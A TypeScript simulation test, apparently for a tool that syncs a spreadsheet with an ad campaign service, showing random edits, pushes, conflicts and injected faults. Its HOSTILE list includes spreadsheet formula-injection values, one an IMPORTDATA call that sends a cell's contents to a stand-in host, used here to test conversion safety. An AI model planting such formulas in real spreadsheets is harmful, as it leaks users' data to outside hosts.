// test, sim: the actions of one step: in the grid, in the sidebar, at the service, and of the clock.

import type { Targets } from '../../workbench/ad-service/state';
import { fixesOf, jobOf, pullArgs, pushArgs, resolveArgs, revertArgs } from './calls';
import { restoreHeaders } from './cell-steps';
import type { Dice } from './dice';
import type { SeenRow, SeenSheet } from './grid';
import { anyCall, madeUpPush, tamper, tamperMetadata } from './hostile-steps';
import type { JobSeen } from './oracle';
import { openAllCells } from './people-cells';
import { showReview, stepped } from './review-pages';
import {
  approvedRows,
  type Faults,
  marker,
  type Person,
  pickTab,
  type ReviewSeen,
  type Sim,
  tabOfSheet,
  type UndoSeen,
} from './sim';
import { type Cell, isShown, type Kind, type SimTab, TABS, tabById } from './tabs';
import { ANNA, BORIS, type Dependencies, type RequestFault } from './world';

/** Values of the service that a spreadsheet tends to convert. */
export const HOSTILE = [
  '=HYPERLINK("https://x.invalid/","c")',
  '=IMPORTDATA("https://x.invalid/"&A1)',
  '=1+1',
  '+49',
  '-5',
  '007',
  '1E5',
  '1-2',
  '50%',
  'TRUE',
  '2026-01-15',
  '1,5',
  '$5.00',
  ' space before',
  "'quoted",
  '@home',
  '🎮 up',
];
export const COUNTRIES = ['US', 'DE', 'FR', 'MX', 'JP', 'BR'];

export type Step = (sim: Sim, dice: Dice) => Promise<string>;

export const otherOf = (user: string): string => (user === ANNA ? BORIS : ANNA);
export const anyone = (dice: Dice): string => (dice.chance(0.75) ? ANNA : BORIS);

// ---- at the grid
// -------------------------------------------------------------------------------------------------

export function newValue(sim: Sim, dice: Dice, kind: Kind, was: Cell): Cell {
  const n = sim.unique();
  switch (kind) {
    case 'tick':
      return was !== true;
    case 'amount':
      return (100 + (n % 9000)) / 100 + 1;
    case 'percent':
      return (n % 300) - 60 === 0 ? 7 : (n % 300) - 60;
    case 'whole':
      return 5 + (n % 12);
    case 'codes':
      // Countries are written in capitals, languages are not.
      return dice.pick(['DE, FR', 'US', 'AT, DE', ''] as const)!;
    case 'url':
      return `https://track.example/${n}`;
    default:
      return `typed ${n}`;
  }
}

/** A value to type into a column. The service rarely refuses it. */
export function typedValue(sim: Sim, dice: Dice, tab: SimTab, header: string, was: Cell): Cell {
  if (header === 'Languages') return dice.pick(['de, fr', 'en', ''])!;
  if (header === 'Tracking method' && dice.chance(0.97)) return `partner_${1 + (sim.unique() % 8)}`;
  return newValue(sim, dice, tab.edits[header]!, was);
}

/** Rows of the service: those that have an ID, or their own keys. */
export const known = (tab: SimTab, row: SeenRow): boolean =>
  tab.keys.every((header) => row.cells[header]?.value != null);

export function editable(tab: SimTab, row: SeenRow): string[] {
  return Object.entries(tab.edits)
    .filter(([header, kind]) => {
      const value = row.cells[header]?.value ?? null;
      if (header === 'Remove' || header === 'Disabled') return false;
      if (tab.id === 'device-targeting' && kind === 'tick') return row.cells.Platform?.value === 'ios';
      if (tab.id === 'assets') return /^TXT_(TITLE|BUTTON|SUBTITLE)$/.test(String(row.cells.Type?.value));
      // A value in DEFAULT must not also be in a country, and an override has one of two values.
      if (kind === 'amount' || kind === 'url' || kind === 'percent') return value !== null;
      return true;
    })
    .map(([header]) => header);
}

export async function type(
  sim: Sim,
  user: string,
  sheet: SeenSheet,
  row: SeenRow,
  header: string,
  value: Cell,
  look: 'kept' | 'automatic' | 'percent' = 'kept',
): Promise<void> {
  const column = sim.world.grid.columnOf(sheet.id, header);
  const tab = tabOfSheet(sim, sheet);
  if (column === 0 || !tab) return;
  sim.world.grid.put(sheet.id, row.row, column, value, look);
  const name = sim.oracle.markerOf(tab.id, sheet, row);
  sim.oracle.typed(tab.id, name, header, value);
  if (tab.keys.includes(header)) sim.oracle.renamed(tab.id, name);
  if (sim.step % 3 !== 0) return;
  const results = await sim.world.host.edited({
    user,
    session: `page-${user}`,
    sheetId: sheet.id,
    range: { row: row.row, column, rows: 1, columns: 1 },
    value,
  });
  for (const { ok, error } of results) if (!ok) sim.trace.push(`onEdit: ${error?.message}`);
}

export async function editSomewhere(sim: Sim, dice: Dice, ids?: readonly string[]): Promise<string> {
  const sheet = pickTab(sim, dice, ids ?? TABS.filter(({ id }) => id !== 'app-lists').map(({ id }) => id));
  const tab = sheet && tabOfSheet(sim, sheet);
  const rows =
    sheet && tab ? sheet.rows.filter((row) => known(tab, row) && editable(tab, row).length > 0) : [];
  const row = dice.pick(rows);
  if (!sheet || !tab || !row) return 'nothing to edit';
  const header = dice.pick(editable(tab, row))!;
  const value = typedValue(sim, dice, tab, header, row.cells[header]?.value ?? null);
  await type(sim, anyone(dice), sheet, row, header, value);
  return `edit ${tab.id} row ${row.row} ${header} ${JSON.stringify(value)}`;
}

const edit: Step = (sim, dice) => editSomewhere(sim, dice);
const targetsEdit: Step = (sim, dice) => editSomewhere(sim, dice, ['targets']);
const assetEdit: Step = (sim, dice) => editSomewhere(sim, dice, ['assets']);

/** A cell that already differs from the service. */
const editAgain: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice, ['campaigns', 'targets', 'source-bids']);
  const tab = sheet && tabOfSheet(sim, sheet);
  const held = sim.world.held(sim.world.service.companies[0]!.company_id);
  const dirty = (sheet?.rows ?? []).flatMap((row) =>
    Object.keys(tab?.edits ?? {})
      .filter((header) => {
        const key = tab!.keys.map((one) => row.cells[one]?.value ?? '').join(' | ');
        const there = held.get(tab!.id)?.get(key)?.[header];
        return (
          there !== undefined && tab!.edits[header] !== 'tick' && (row.cells[header]?.value ?? null) !== there
        );
      })
      .map((header) => ({ row, header })),
  );
  const chosen = dice.pick(dirty);
  if (!sheet || !tab || !chosen) return editSomewhere(sim, dice);
  const value = typedValue(sim, dice, tab, chosen.header, null);
  await type(sim, anyone(dice), sheet, chosen.row, chosen.header, value);
  return `edit again ${tab.id} row ${chosen.row.row} ${chosen.header} ${JSON.stringify(value)}`;
};

/** A paste from elsewhere sets the cell's format to Automatic. */
export const automatic: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice, ['campaigns', 'creative-sets', 'ads', 'assets', 'targets']);
  const tab = sheet && tabOfSheet(sim, sheet);
  const row = dice.pick((sheet?.rows ?? []).filter((one) => tab && known(tab, one)));
  if (!sheet || !tab || !row) return 'nothing to paste over';
  const texts = Object.keys(tab.edits).filter((header) => ['text', 'url'].includes(tab.edits[header]!));
  const header = dice.pick(texts);
  if (!header || (tab.id === 'assets' && !editable(tab, row).includes(header)))
    return 'nothing to paste over';
  const column = sim.world.grid.columnOf(sheet.id, header);
  if (column === 0) return 'no such column';
  const was = row.cells[header]?.value ?? null;
  const value = dice.chance(0.6) ? was : typedValue(sim, dice, tab, header, was);
  if (value === null) return 'nothing to paste';
  sim.world.grid.put(sheet.id, row.row, column, value, 'automatic');
  if (value !== was) sim.oracle.typed(tab.id, marker(row), header, value);
  return `paste with Automatic format ${tab.id} row ${row.row} ${header} ${JSON.stringify(value)}`;
};

const clear: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice, ['campaigns', 'creative-sets', 'source-bids', 'device-targeting']);
  const tab = sheet && tabOfSheet(sim, sheet);
  const row = dice.pick((sheet?.rows ?? []).filter((one) => tab && known(tab, one)));
  if (!sheet || !tab || !row) return 'nothing to clear';
  const header = dice.pick(Object.keys(tab.edits));
  if (!header) return 'nothing to clear';
  await type(sim, anyone(dice), sheet, row, header, null);
  return `clear ${tab.id} row ${row.row} ${header}`;
};

const formula: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice, ['targets']);
  const row = dice.pick((sheet?.rows ?? []).filter((one) => one.cells.Bid?.value != null));
  if (!sheet || !row) return 'nowhere to put a formula';
  const n = (sim.unique() % 900) + 1;
  const text = `=N("SIM")+${n}`;
  await sim.script(ANNA, 'simFormula', sheet.id, row.row, sim.world.grid.columnOf(sheet.id, 'Bid'), text);
  sim.oracle.typed('targets', marker(row), 'Bid', n, text);
  return `formula targets row ${row.row} Bid ${text}`;
};

export const NEW_CAMPAIGN = (name: string): Record<string, Cell> => ({
  Name: name,
  Active: true,
  Platform: 'android',
  'Bid type': 'CPI',
  'Package name': 'example.sim.app',
  Category: 'Games',
  'Tracking method': 'custom_track',
});

const NEW_ROWS = [
  'campaigns',
  'campaigns',
  'sources',
  'source-bids',
  'creative-sets',
  'app-lists',
  'targets',
];

/** @param wanted ID of the tab */
export const newRow = async (sim: Sim, dice: Dice, wanted?: string): Promise<string> => {
  const id = wanted ?? dice.pick(NEW_ROWS)!;
  const sheet = sim.oracle.sheetOf(id);
  const campaigns = sim.oracle.sheetOf('campaigns');
  const campaign = dice.pick(
    (campaigns?.rows ?? []).filter((row) => row.cells['Campaign ID']?.value != null),
  );
  if (!sheet || !campaign) return 'no room for a row';
  const n = sim.unique();
  const campaignId = campaign.cells['Campaign ID']!.value;
  const taken = sheet.rows
    .filter(({ cells }) => cells['Campaign ID']?.value === campaignId)
    .map(({ cells }) => cells.Country?.value);
  const country = dice.pick(COUNTRIES.filter((code) => !taken.includes(code)));
  if (id === 'targets' && country === null) return 'every country is there';
  const cells: Record<string, Cell> =
    id === 'campaigns'
      ? NEW_CAMPAIGN(`new ${n}`)
      : id === 'sources'
        ? { 'Campaign ID': campaignId, 'App ID': `app${n}`, Active: true }
        : id === 'source-bids'
          ? {
              'Campaign ID': campaignId,
              'App ID': `app${n}`,
              Country: dice.pick(COUNTRIES),
              'Bid value': 1.5,
            }
          : id === 'creative-sets'
            ? { 'Campaign ID': campaignId, Name: `set ${n}`, ...(dice.chance(0.4) ? { CTV: true } : {}) }
            : id === 'app-lists'
              ? { Name: `list ${n}` }
              : { 'Campaign ID': campaignId, Country: country };
  const row = Math.max(1, ...sheet.rows.map((one) => one.row)) + 1;
  // `007` typed where the format is Automatic is the number 7.
  const lost = cells['App ID'] != null && dice.chance(0.3);
  if (lost) {
    cells['App ID'] = n;
    sim.oracle.numberAsId(String(n));
  }
  for (const [header, value] of Object.entries(cells)) {
    const column = sim.world.grid.columnOf(sheet.id, header);
    const look = lost && header === 'App ID' ? 'automatic' : 'kept';
    if (column > 0) sim.world.grid.put(sheet.id, row, column, value, look);
  }
  sim.oracle.added(id, cells);
  return `new row ${row} of ${id} ${JSON.stringify(cells)}`;
};

export const disable: Step = async (sim, dice) => {
  const sheet = sim.oracle.sheetOf('targets');
  const row = dice.pick(
    (sheet?.rows ?? []).filter(
      (one) => one.cells.Country?.value !== 'DEFAULT' && one.cells.Disabled?.value !== true,
    ),
  );
  if (!sheet || !row) return 'no country to disable';
  await type(sim, anyone(dice), sheet, row, 'Disabled', true);
  return `disable ${row.cells['Campaign ID']?.value} ${row.cells.Country?.value}`;
};

/** A bid for a disabled country. */
const editDisabled: Step = async (sim, dice) => {
  const sheet = sim.oracle.sheetOf('targets');
  const row = dice.pick((sheet?.rows ?? []).filter((one) => one.cells.Disabled?.value === true));
  if (!sheet || !row) return disable(sim, dice);
  const value = newValue(sim, dice, 'amount', null);
  await type(sim, anyone(dice), sheet, row, 'Bid', value);
  return `edit the bid of ${row.cells.Country?.value}, which is disabled: ${value}`;
};

const enable: Step = async (sim, dice) => {
  const sheet = sim.oracle.sheetOf('targets');
  const row = dice.pick((sheet?.rows ?? []).filter((one) => one.cells.Disabled?.value === true));
  if (!sheet || !row) return 'no country to enable';
  await type(sim, anyone(dice), sheet, row, 'Disabled', false);
  return `enable ${row.cells['Campaign ID']?.value} ${row.cells.Country?.value}`;
};

export const sort: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice);
  if (!sheet) return 'nothing to sort';
  const column = dice.whole(1, Math.max(1, sheet.headers.length));
  const ascending = dice.chance(0.5);
  await sim.script(anyone(dice), 'simSort', sheet.id, column, ascending);
  return `sort ${sheet.name} by ${sheet.headers[column - 1]} ${ascending ? 'up' : 'down'}`;
};

const insertRows: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice);
  if (!sheet) return 'nowhere to insert';
  const at = dice.whole(2, sheet.rows.length + 1);
  await sim.script(anyone(dice), 'simInsertRows', sheet.id, at, dice.whole(1, 2));
  return `insert rows at ${at} of ${sheet.name}`;
};

const deleteRow: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice);
  const tab = sheet && tabOfSheet(sim, sheet);
  const row = dice.pick(sheet?.rows ?? []);
  if (!sheet || !tab || !row) return 'nothing to delete';
  sim.oracle.forget(tab.id, [marker(row)]);
  await sim.script(anyone(dice), 'simDeleteRows', sheet.id, row.row, 1);
  return `delete row ${row.row} of ${sheet.name}`;
};

const insertColumn: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice);
  if (!sheet || sheet.headers.length > 26) return 'no column inserted';
  const at = dice.whole(1, sheet.headers.length);
  await sim.script(anyone(dice), 'simInsertColumn', sheet.id, at);
  return `insert a column before ${at} of ${sheet.name}`;
};

const moveColumn: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice);
  const from = sheet ? sim.world.grid.columnOf(sheet.id, 'Own') : 0;
  if (!sheet || from === 0) return 'no column of one’s own';
  const to = dice.pick([1, 2, 3, dice.whole(1, sheet.headers.length)])!;
  await sim.script(anyone(dice), 'simMoveColumn', sheet.id, from, to);
  return `move Own of ${sheet.name} from ${from} to ${to}`;
};

const filter: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice, ['campaigns', 'targets', 'source-bids']);
  if (!sheet) return 'nothing to filter';
  const column = dice.whole(1, sheet.headers.length);
  const hidden = String(sheet.rows[0]?.cells[sheet.headers[column - 1]!]?.value ?? '');
  await sim.script(anyone(dice), 'simFilter', sheet.id, column, [hidden]);
  return `filter ${sheet.name} by column ${column}`;
};

const renameTab: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice);
  if (!sheet) return 'nothing to rename';
  await sim.script(anyone(dice), 'simRename', sheet.id, `Ours ${sim.unique()}`);
  return `rename ${sheet.name}`;
};

const copyTab: Step = async (sim, dice) => {
  const sheet = pickTab(sim, dice);
  if (!sheet || sim.world.grid.sheets().length > 16) return 'nothing to copy';
  await sim.script(anyone(dice), 'simCopy', sheet.id);
  return `copy ${sheet.name}`;
};

const sortLog: Step = async (sim, dice) => {
  const log = sim.world.grid.byName('Bidgrid log');
  if (!log || log.rows.length < 2) return 'no log to sort';
  sim.oracle.logTouched = true;
  await sim.script(anyone(dice), 'simSort', log.id, dice.whole(1, log.headers.length), dice.chance(0.5));
  return 'sort the log';
};

const trimLog: Step = async (sim, dice) => {
  const log = sim.world.grid.byName('Bidgrid log');
  const row = dice.pick(log?.rows ?? []);
  if (!log || !row) return 'no log to trim';
  sim.oracle.logTouched = true;
  if (dice.chance(0.3)) await sim.script(BORIS, 'simInsertRows', log.id, row.row, 1);
  else await sim.script(BORIS, 'simDeleteRows', log.id, row.row, 1);
  return `trim the log at ${row.row}`;
};

// ---- at the service
// ----------------------------------------------------------------------------------------------

export function changeService(sim: Sim, change: () => string): string {
  const company = sim.world.service.companies[0]!.company_id;
  const { lateReads } = sim.world.service;
  const before = sim.world.held(company);
  lateReads.prepare();
  const what = change();
  lateReads.changed();
  sim.oracle.outside(before, sim.world.held(company));
  return `elsewhere: ${what}`;
}

export function changeSomething(sim: Sim, dice: Dice, hostile: boolean): string {
  const { state, companies } = sim.world.service;
  const company = companies[0]!.company_id;
  const campaigns = [...state.campaigns.values()].filter(({ company_id }) => company_id === company);
  const campaign = dice.pick(campaigns)!;
  const n = sim.unique();
  const text = hostile ? dice.pick(HOSTILE)! : `theirs ${n}`;
  const targets = state.targets.get(campaign.campaign_id)!;
  const inventory = state.inventories.get(campaign.campaign_id);
  const sets = [...state.creative_sets.values()].filter(
    ({ campaign_id }) => campaign_id === campaign.campaign_id,
  );
  switch (
    dice.weighted({
      name: 4,
      status: 1,
      bid: hostile ? 0 : 4,
      country: hostile ? 0 : 2,
      source: hostile ? 0 : 1,
      override: hostile ? 0 : 3,
      set: 3,
      ad: 2,
      asset: 2,
      device: hostile ? 0 : 1,
    })
  ) {
    case 'name':
      campaign.name = text;
      return `campaign ${campaign.campaign_id} is named ${text}`;
    case 'status':
      campaign.status = !campaign.status;
      return `campaign ${campaign.campaign_id} status ${campaign.status}`;
    case 'bid':
      return changeBid(dice, targets, campaign.campaign_id, n);
    case 'country': {
      const code = dice.pick(COUNTRIES)!;
      if (targets.countries.has(code)) targets.countries.delete(code);
      else targets.countries.set(code, { ...[...targets.countries].find(([one]) => one !== 'DEFAULT')?.[1] });
      return `country ${code} of ${campaign.campaign_id} ${targets.countries.has(code) ? 'added' : 'disabled'}`;
    }
    case 'source': {
      const source = dice.pick(inventory?.sources ?? []);
      if (source) source.status = !source.status;
      return `source ${source?.app_id} of ${campaign.campaign_id}`;
    }
    case 'override': {
      const bid = dice.pick(inventory?.bids ?? []);
      if (!bid) return 'no override';
      if (dice.chance(0.5))
        Object.assign(bid, { bid_override_percentage: String(10 + (n % 80)), bid_value: 'default' });
      else Object.assign(bid, { bid_override_percentage: 'default', bid_value: `${3 + (n % 90) / 100}` });
      return `override ${bid.app_id} ${bid.country} of ${campaign.campaign_id}`;
    }
    case 'set': {
      const set = dice.pick(sets);
      if (set) set.name = text;
      return `set ${set?.creative_set_id} is named ${text}`;
    }
    case 'ad': {
      const ad = state.ads.get(dice.pick(sets.flatMap(({ ads }) => ads)) ?? -1);
      if (ad) ad.name = text;
      return `ad ${ad?.id} is named ${text}`;
    }
    case 'asset': {
      const asset = dice.pick(
        sets
          .flatMap(({ assets }) => assets)
          .filter(({ type: one }) => /^TXT_(TITLE|BUTTON|SUBTITLE)$/.test(one)),
      );
      if (asset) asset.asset = text;
      return `asset ${asset?.type} is ${text}`;
    }
    default: {
      targets.os_major_version_min = 5 + (n % 12);
      if (campaign.platform === 'ios') targets.device_types = dice.pick([['phone'], ['tablet'], []])!;
      return `devices of ${campaign.campaign_id}`;
    }
  }
}

function changeBid(dice: Dice, targets: Targets, id: string, n: number): string {
  const having = [...targets.countries].filter(([, values]) => values.bid !== undefined);
  const chosen = dice.pick(having);
  if (!chosen) return 'no bid';
  if (dice.chance(0.7)) chosen[1].bid = 20 + (n % 900) / 100;
  else chosen[1].budget = chosen[1].budget === undefined ? undefined : 400 + (n % 90);
  return `${id} ${chosen[0]} bid ${chosen[1].bid} budget ${chosen[1].budget}`;
}

const elsewhere: Step = async (sim, dice) =>
  changeService(sim, () => changeSomething(sim, dice, dice.chance(0.15)));
const hostileElsewhere: Step = async (sim, dice) =>
  changeService(sim, () => changeSomething(sim, dice, true));

/** Changes at the service a row with an unpushed edit: the same field, or another one. */
const elsewhereJust: Step = async (sim, dice) =>
  changeService(sim, () => {
    const rows = [...Object.values(sim.people)].flatMap(({ review }) => review?.rows ?? []);
    const row = dice.pick(rows.filter(({ action }) => action === 'update'));
    if (!row) return changeSomething(sim, dice, false);
    const { state } = sim.world.service;
    const n = sim.unique();
    const [first, second, third] = row.key.split(' | ');
    if (row.tab === 'campaigns') {
      const campaign = state.campaigns.get(first!);
      if (campaign) campaign.name = `theirs ${n}`;
    } else if (row.tab === 'targets') {
      const values = state.targets.get(first!)?.countries.get(second!);
      if (values?.bid !== undefined) values.bid = 30 + (n % 900) / 100;
      else if (values?.click_url !== undefined) values.click_url = `https://theirs.example/${n}`;
    } else if (row.tab === 'source-bids') {
      const bid = state.inventories
        .get(first!)
        ?.bids.find((one) => one.app_id === second && one.country === third);
      if (bid) Object.assign(bid, { bid_override_percentage: 'default', bid_value: `${4 + (n % 90) / 100}` });
    } else if (row.tab === 'creative-sets') {
      const set = state.creative_sets.get(first!);
      if (set) set.name = `theirs ${n}`;
    } else if (row.tab === 'ads') {
      const ad = state.ads.get(Number(first));
      if (ad) ad.name = `theirs ${n}`;
    } else if (row.tab === 'assets') {
      const asset = state.creative_sets.get(first!)?.assets.find(({ type: one }) => one === second);
      if (asset && /^TXT_(TITLE|BUTTON|SUBTITLE)/.test(asset.type)) asset.asset = `theirs ${n}`;
    } else return changeSomething(sim, dice, false);
    return `near ${row.tab} ${row.key}`;
  });

/** Renames the last created object at the service. */
export const renameCreated: Step = async (sim, dice) =>
  changeService(sim, () => {
    const { state } = sim.world.service;
    const made = [...state.campaigns.values()].filter(({ origin }) => origin === 'created');
    const sets = [...state.creative_sets.values()].filter(({ name }) => /^set \d/.test(name));
    const chosen = dice.chance(0.6) ? made.at(-1) : sets.at(-1);
    if (!chosen) return changeSomething(sim, dice, false);
    chosen.name = `renamed ${sim.unique()}`;
    return `the new object is named ${chosen.name}`;
  });

const clock: Step = async (sim, dice) => {
  // The clocks of the host's machines differ, so time can also go back.
  const minutes = dice.pick([1, 7, 61, 61, 1500, -0.5, -3])!;
  sim.world.pass(minutes * 60_000);
  return minutes < 0 ? `the clock goes back ${-minutes} minutes` : `${minutes} minutes pass`;
};

// ---- in the sidebar
// ----------------------------------------------------------------------------------------------

export const finish = async (sim: Sim, user: string, most = 30): Promise<void> => {
  for (let i = 0; i < most && sim.job; i += 1) {
    const stepped = await sim.ask<JobSeen & { resumeAt: number | null }>(user, 'jobStep', [sim.job]);
    if (stepped.cut || !stepped.ok) return;
    sim.saw(stepped.value);
    if (stepped.value?.state === 'parked') return;
  }
};

export async function startPull(
  sim: Sim,
  user: string,
  faults: Faults = {},
  args: readonly unknown[] = pullArgs(),
): Promise<boolean> {
  const started = await sim.ask<JobSeen>(user, 'pullStart', args);
  sim.saw(started.value);
  if (!started.ok || !sim.job) return false;
  sim.jobOwner = user;
  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job], faults);
  sim.saw(stepped.value);
  return true;
}

const pull: Step = async (sim, dice) => {
  const user = anyone(dice);
  if (!(await startPull(sim, user))) return `${user} can't pull`;
  await finish(sim, user);
  return `${user} pulls`;
};

export async function lookAtReview(sim: Sim, user: string, faults?: Faults): Promise<ReviewSeen | null> {
  const built = await stepped<ReviewSeen>(sim, user, 'reviewBuild', [], faults);
  return built ? showReview(sim, user, { ...built, changed: null }) : null;
}

const review: Step = async (sim, dice) => {
  const user = anyone(dice);
  const view = await lookAtReview(sim, user);
  return `${user} reviews ${view?.rows.length} rows, ${view?.conflicts.length} conflicts`;
};

/**
 * @param leave the rows that the person leaves out; absent: chosen at random
 * @param undoes run that it undoes
 */
export async function startPush(
  sim: Sim,
  dice: Dice,
  user: string,
  leave?: readonly { readonly tab: string; readonly key: string }[],
  undoes?: string,
): Promise<boolean> {
  const view = sim.people[user]!.review;
  if (!view || view.rows.length === 0) return false;
  const some = dice.chance(0.2) ? view.rows.filter(() => dice.chance(0.3)) : [];
  const leaveOut = (leave ?? some).map(({ tab, key }) => ({ tab, key }));
  const approval = sim.oracle.approve(user, view.account, approvedRows(view.rows, leaveOut));
  const started = await sim.ask<JobSeen>(user, 'pushStart', pushArgs(view, leaveOut, undoes));
  if (started.ok && started.value) {
    approval.job = jobOf(started.value).id;
    sim.jobOwner = user;
    sim.figures.pushed += 1;
    sim.saw(started.value);
    sim.people[user]!.review = null;
    return true;
  }
  if (!started.cut) {
    sim.oracle.refuse(approval);
    sim.figures.refused += 1;
  }
  return false;
}

export const push: Step = async (sim, dice) => {
  const user = anyone(dice);
  const began = await startPush(sim, dice, user);
  if (began && dice.chance(0.6)) await finish(sim, user);
  return `${user} pushes: ${began}`;
};

/** Review and push at once, as most people do. */
const pushAll: Step = async (sim, dice) => {
  const user = anyone(dice);
  await finish(sim, sim.jobOwner || user);
  await lookAtReview(sim, user);
  const began = await startPush(sim, dice, user);
  if (began) await finish(sim, user);
  return `${user} reviews and pushes: ${began}`;
};

/** A push whose steps end early, so that people can act in between. */
const pushSlow: Step = async (sim, dice) => {
  const user = anyone(dice);
  await finish(sim, sim.jobOwner || user);
  await lookAtReview(sim, user);
  if (!(await startPush(sim, dice, user)) || !sim.job) return 'nothing to push';
  const at = dice.whole(10, 260);
  const faults = dice.chance(0.5)
    ? { killAt: at }
    : { meanwhile: new Map([[at, async () => void (await intrude(sim, dice, ['sortLog', 'trimLog']))]]) };
  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job], faults);
  sim.saw(stepped.value);
  return `${user} pushes; ${faults.killAt ? 'killed' : 'the log changes'} at call ${at}`;
};

export const REQUEST_FAULTS: readonly RequestFault[] = [
  'drop-before',
  'drop-after',
  'drop-after',
  'drop-after',
  'truncate',
  'after-503',
  'after-page',
  'after-nothing',
  'slow',
  { status: 500 },
  { status: 429, retryAfter: 2 },
  { status: 429, retryAfter: 3600 },
  { status: 400 },
  { status: 404 },
];

/** A write of a job, or of an app list. */
const WRITE = /^POST \/campaign_management\/|\/applists\/create/;

/** Kinds of faults, as `Figures.faults` names them. */
export const FAULTS = [
  'kill',
  'host error',
  'write error',
  ...new Set(REQUEST_FAULTS.map((what) => (typeof what === 'string' ? what : `status ${what.status}`))),
] as const;

function faultOfKind(dice: Dice, kind: string): Faults {
  const message = dice.pick(HOST_ERRORS)!;
  if (kind === 'kill') return { killAt: dice.whole(40, 200) };
  if (kind === 'host error') return { refuseAt: { n: dice.whole(20, 150), message, only: /^(set|get)/ } };
  if (kind === 'write error') return { refuseWrite: { n: 1, message, only: /^(Range|RangeList|Sheet)\./ } };
  const what = REQUEST_FAULTS.find(
    (one) => kind === (typeof one === 'string' ? one : `status ${one.status}`),
  )!;
  return { requestFaults: [{ from: 1, to: 1, what, only: WRITE }] };
}

/** A push of one edit with one fault, another kind at each step. */
const eachFault: Step = async (sim, dice) => {
  await finish(sim, sim.jobOwner || ANNA);
  if (sim.job) sim.world.pass(3_700_000);
  await finish(sim, sim.jobOwner || ANNA);
  await editSomewhere(sim, dice, ['campaigns']);
  const kind = FAULTS[(sim.step - 1) % FAULTS.length]!;
  const view = await lookAtReview(sim, ANNA);
  if (view && view.conflicts.length > 0)
    await applyChoice(sim, sim.people[ANNA]!, view.conflicts, 'mine', true);
  if (!(await startPush(sim, dice, ANNA, [])) || !sim.job) return `nothing to push for ${kind}`;
  const stepped = await sim.ask<JobSeen>(ANNA, 'jobStep', [sim.job], faultOfKind(dice, kind));
  sim.saw(stepped.value);
  return `a push with ${kind}: ${stepped.value?.state ?? stepped.sentence}`;
};

export const requestFault = (dice: Dice): Faults => {
  const from = dice.whole(1, 12);
  return {
    requestFaults: [{ from, to: dice.chance(0.25) ? from + 3 : from, what: dice.pick(REQUEST_FAULTS)! }],
  };
};

const lostPush: Step = async (sim, dice) => {
  const user = anyone(dice);
  if (!sim.people[user]!.review || dice.chance(0.6)) {
    await finish(sim, sim.jobOwner || user);
    await lookAtReview(sim, user);
  }
  if (!(await startPush(sim, dice, user)) || !sim.job) return 'nothing to push';
  const faults = dice.chance(0.25) ? { killAt: dice.whole(30, 400) } : requestFault(dice);
  // A colleague reacts to the error before the push is resumed.
  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job], {
    ...faults,
    meanwhile: dice.chance(0.3)
      ? new Map([[dice.whole(60, 400), async () => void (await elsewhereJust(sim, dice))]])
      : undefined,
  });
  sim.saw(stepped.value);
  return `${user} pushes with faults ${JSON.stringify(faults)}`;
};

const HOST_ERRORS = [
  'Service Spreadsheets timed out while accessing document.',
  'Service invoked too many times for one day: urlfetch.',
  "We're sorry, a server error occurred. Please wait a bit and try again.",
];

/** Writes are buffered: their error arrives at a later read or flush. */
const lateError = (dice: Dice, message: string): Faults => {
  const typed = dice.chance(0.4);
  return {
    refuseWrite: {
      n: dice.whole(1, 12),
      message: typed ? "You can't set the number format of cells in a typed column." : message,
      only: typed ? /NumberFormats?$/ : /^(Range|RangeList|Sheet)\./,
    },
  };
};

const killedCall: Step = async (sim, dice) => {
  const user = anyone(dice);
  const at = Math.floor(dice.next() ** 2 * 500) + 1;
  const message = dice.pick(HOST_ERRORS)!;
  const what = dice.weighted({ kill: 5, call: 3, write: 4 });
  const faults: Faults =
    what === 'kill'
      ? { killAt: at }
      : what === 'call'
        ? { refuseAt: { n: at, message, only: /^(set|get|flush|fetch|insert)/ } }
        : lateError(dice, message);
  const name = dice.pick(['jobStep', 'reviewBuild', 'checkRun', 'pullStart'] as const)!;
  if (name === 'pullStart') await startPull(sim, user, faults);
  else if (name === 'jobStep' && !sim.job) await startPull(sim, user, faults);
  else {
    const result = await sim.ask<JobSeen & ReviewSeen>(
      user,
      name,
      name === 'jobStep' ? [sim.job] : [],
      faults,
    );
    if (name === 'jobStep') sim.saw(result.value);
  }
  return `${user} ${name} with ${JSON.stringify(faults)}`;
};

const stepJob: Step = async (sim, dice) => {
  if (!sim.job) return 'no job';
  const user = dice.chance(0.85) ? sim.jobOwner || ANNA : otherOf(sim.jobOwner || ANNA);
  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job]);
  sim.saw(stepped.value);
  return `${user} steps: ${stepped.value?.state ?? stepped.sentence}`;
};

const finishJob: Step = async (sim) => {
  if (!sim.job) return 'no job';
  await finish(sim, sim.jobOwner || ANNA);
  return `the job is stepped: ${sim.job ?? 'over'}`;
};

const cancel: Step = async (sim, dice) => {
  if (!sim.job) return 'no job';
  const user = anyone(dice);
  const canceled = await sim.ask<JobSeen>(user, 'jobCancel', [sim.job]);
  sim.saw(canceled.value);
  return `${user} cancels: ${canceled.value?.state ?? canceled.sentence}`;
};

const resolve: Step = async (sim, dice) => {
  const user = anyone(dice);
  const who = sim.people[user]!;
  if (!who.review || who.review.conflicts.length === 0) await lookAtReview(sim, user);
  const conflict = dice.pick((who.review?.conflicts ?? []).filter(({ blocked }) => blocked === ''));
  if (!conflict) return 'no conflict';
  const take = dice.pick(['mine', 'theirs'] as const)!;
  if (dice.chance(0.5)) sim.trace.push(`  meanwhile: ${await editSomewhere(sim, dice)}`);
  return applyChoice(sim, who, [conflict], take, false);
};

const resolveAll: Step = async (sim, dice) => {
  const user = anyone(dice);
  const who = sim.people[user]!;
  if (!who.review || who.review.conflicts.length === 0) await lookAtReview(sim, user);
  if (!who.review || who.review.conflicts.length === 0) return 'no conflict';
